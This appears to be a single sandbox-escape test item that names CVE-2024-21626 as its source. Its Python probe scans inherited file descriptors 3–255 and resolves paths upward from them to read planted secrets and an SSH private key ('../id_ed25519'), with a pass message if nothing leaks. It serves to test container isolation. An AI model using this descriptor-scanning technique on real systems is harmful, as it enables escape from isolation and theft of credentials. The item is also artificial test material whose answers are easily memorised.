# id: fs-inherited-dirfd
# group: fs-read
# aim: Look for a folder that the supervisor left open, and resolve upwards from it.
# judge: outside
# canary: leaked-folder, ssh-key
# tier-l: enforced
# source: CVE-2024-21626
# wrap: leak

for number in range(3, 256):
    for path in ("secret.txt", "../id_ed25519", "../leak/secret.txt"):
        try:
            print(os.read(os.open(path, os.O_RDONLY, dir_fd=number), 4096).decode())
        except OSError:
            pass
held("no descriptor led to a secret")
